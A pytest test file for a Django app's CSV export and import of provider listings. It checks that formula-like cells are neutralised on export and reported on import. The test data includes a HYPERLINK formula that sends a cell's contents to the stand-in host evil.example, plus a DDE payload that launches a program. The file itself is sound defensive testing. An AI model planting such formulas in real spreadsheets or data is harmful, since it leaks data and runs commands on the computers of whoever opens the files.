"""Text a provider typed never runs as a spreadsheet formula on a curator's
computer: exports neutralise formula-like cells and imports report them (issue
19, item 9)."""

import csv
import io

import pytest
from django.contrib.auth.models import Group
from django.core.files.uploadedfile import SimpleUploadedFile

from providers.csvsafety import formula_like, neutralised
from providers.exporting import export_listings_csv
from providers.importing import import_listings_csv
from providers.models import Listing
from tests.factories import ListingFactory, LocationFactory, UserFactory

pytestmark = pytest.mark.django_db
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize(
    "cell", ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", HYPERLINK, "-cmd|' /C calc'!A0"]
)
def test_formula_like_cells_are_written_as_text(cell):
    assert formula_like(cell)
    assert neutralised(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["Ana Reyes", "-73.9857", "+14155550100", "40", "", "a=b"])
def test_ordinary_text_and_numbers_are_left_alone(cell):
    assert neutralised(cell) == cell


def exported_rows(listings=None):
    out = io.StringIO()
    export_listings_csv(file=out, listings=listings)
    return list(csv.DictReader(io.StringIO(out.getvalue())))


def test_the_export_neutralises_a_formula_in_a_name_and_keeps_negative_coordinates():
    listing = ListingFactory(name=HYPERLINK, slug="evil", about="@risk of harm", phone="-x")
    LocationFactory(listing=listing, latitude="40.7", longitude="-73.98")
    (row,) = exported_rows()
    assert row["name"] == "'" + HYPERLINK
    assert row["about"] == "'@risk of harm"
    assert row["phone"] == "'-x"
    assert row["longitude"].startswith("-73.98")
    assert not any(formula_like(value) for value in row.values())


def test_a_neutralised_export_imports_back_to_the_same_text():
    listing = ListingFactory(name=HYPERLINK, slug="evil")
    LocationFactory(listing=listing)
    out = io.StringIO()
    export_listings_csv(file=out)
    Listing.objects.filter(pk=listing.pk).update(name="changed")

    report = import_listings_csv(file=io.StringIO(out.getvalue()))
    assert report.failed == 0
    assert Listing.objects.get(slug="evil").name == HYPERLINK
    assert "a spreadsheet may run it as a formula" in report.rows[0].warnings[0]


def test_the_curators_import_page_reports_formula_cells(client):
    curator = UserFactory(email="curator@example.org", is_staff=True)
    curator.groups.add(Group.objects.get(name="Curators"))
    client.force_login(curator)
    text = (
        "slug,name,kind,status,postal_code\n"
        'evil,=HYPERLINK("http://evil.example"),clinician,published,94110\n'
    )
    upload = SimpleUploadedFile("listings.csv", text.encode(), content_type="text/csv")
    response = client.post("/admin/providers/listing/import/", {"file": upload})
    page = response.content.decode()
    assert "name begins with" in page and "a spreadsheet may run it as a formula" in page
    assert "data-warning" in page
